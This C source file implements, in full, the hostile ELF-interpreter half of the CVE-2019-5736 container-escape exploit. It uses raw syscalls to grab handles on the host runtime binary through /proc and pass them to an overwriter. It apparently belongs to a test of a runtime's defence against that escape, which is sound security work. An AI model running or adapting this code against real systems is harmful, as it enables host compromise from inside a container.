/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The CVE-2019-5736 attack, first half: a hostile ELF interpreter.
 *
 * The image installs this program where the runtime binary's PT_INTERP points
 * (/lib64/ld-linux-x86-64.so.2) and makes its entrypoint a script "#!/proc/self/exe". When the
 * runtime's init execve()s the entrypoint, the kernel runs the init's own executable (the
 * runtime) again inside the container, and loads *this* program from the container's root as
 * its dynamic loader. So this code runs in a process whose /proc/self/exe is whatever the
 * runtime was executing: the host binary, or a sealed copy of it.
 *
 * It takes two handles on that executable:
 *   - "self": /proc/self/exe, opened by this process;
 *   - "pid":  /proc/<pid>/exe of this process, opened by a forked child (another process of
 *             the container reaching the runtime-side process through /proc, as in the
 *             original exploit);
 * and hands each to /attack/overwrite, which waits for the runtime to stop executing the file
 * and then tries to write it.
 *
 * It is loaded by the kernel as an interpreter, before any libc could set itself up (the aux
 * vector describes the runtime binary, not us), so it is freestanding: raw system calls, no
 * relocations (position independent, string literals only), no libc. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <asm/unistd.h>
#include <fcntl.h>

static long sys3(long n, long a, long b, long c)
{
  long ret;

  __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return ret;
}

static long sys4(long n, long a, long b, long c, long d)
{
  long ret;
  register long r10 __asm__("r10") = d;

  __asm__ volatile("syscall"
                   : "=a"(ret)
                   : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return ret;
}

static unsigned long len_of(const char *s)
{
  unsigned long n = 0;

  while (s[n])
    n++;
  return n;
}

/* Writes the decimal digits of v at out; returns the number written. */
static int put_number(char *out, long v)
{
  char tmp[24];
  int n = 0, i = 0;

  if (v < 0)
    v = 0;
  do {
    tmp[n++] = (char)('0' + v % 10);
    v /= 10;
  } while (v > 0);
  while (n > 0)
    out[i++] = tmp[--n];
  out[i] = '\0';
  return i;
}

static void report(const char *text)
{
  long fd =
      sys4(__NR_openat, AT_FDCWD, (long)"/attack/report", O_WRONLY | O_APPEND | O_CREAT, 0644);

  if (fd < 0)
    return;
  sys3(__NR_write, fd, (long)text, (long)len_of(text));
  sys3(__NR_close, fd, 0, 0);
}

static __attribute__((noreturn)) void quit(long code)
{
  for (;;)
    sys3(__NR_exit_group, code, 0, 0);
}

/* execve("/attack/overwrite", ["overwrite", "write", label, fd, role], {}) */
static __attribute__((noreturn)) void hand_over(const char *label, long fd, const char *role)
{
  char digits[24];
  const char *argv[6];
  const char *envp[1] = {0};

  put_number(digits, fd);
  argv[0] = "overwrite";
  argv[1] = "write";
  argv[2] = label;
  argv[3] = digits;
  argv[4] = role;
  argv[5] = 0;
  sys3(__NR_execve, (long)"/attack/overwrite", (long)argv, (long)envp);
  report("interp: execve /attack/overwrite failed\n");
  quit(111);
}

void interp_main(void)
{
  char path[64] = "/proc/";
  long self_fd, pid, child, n;
  int sync[2];

  report("interp: running as the runtime's loader\n");
  /* No O_CLOEXEC: the handle must survive into the writer. */
  self_fd = sys4(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
  if (self_fd < 0)
    report("interp: open /proc/self/exe failed\n");
  pid = sys3(__NR_getpid, 0, 0, 0);
  /* The child tells us through the pipe once it holds its handle: until then this process
   * must keep executing the runtime, or /proc/<pid>/exe would already name the writer. */
  if (sys3(__NR_pipe2, (long)sync, O_CLOEXEC, 0) < 0)
    sync[0] = sync[1] = -1;
  child = sys3(__NR_fork, 0, 0, 0);
  if (child == 0) {
    long pid_fd;
    n = 6 + put_number(path + 6, pid);
    path[n++] = '/';
    path[n++] = 'e';
    path[n++] = 'x';
    path[n++] = 'e';
    path[n] = '\0';
    pid_fd = sys4(__NR_openat, AT_FDCWD, (long)path, O_PATH, 0);
    if (self_fd >= 0)
      sys3(__NR_close, self_fd, 0, 0);
    sys3(__NR_write, sync[1], (long)"x", 1);
    if (pid_fd < 0) {
      report("interp: open /proc/<pid>/exe failed\n");
      quit(112);
    }
    hand_over("pid", pid_fd, "child");
  }
  if (child > 0) {
    char byte;
    sys3(__NR_close, sync[1], 0, 0);
    sys3(__NR_read, sync[0], (long)&byte, 1);
  }
  if (self_fd < 0)
    quit(113);
  hand_over("self", self_fd, "parent");
}

/* The kernel jumps here with the stack as it set it up; nothing of it is needed. */
__asm__(".text\n"
        ".global _start\n"
        "_start:\n"
        "  xor %rbp, %rbp\n"
        "  and $-16, %rsp\n"
        "  call interp_main\n"
        "  hlt\n");
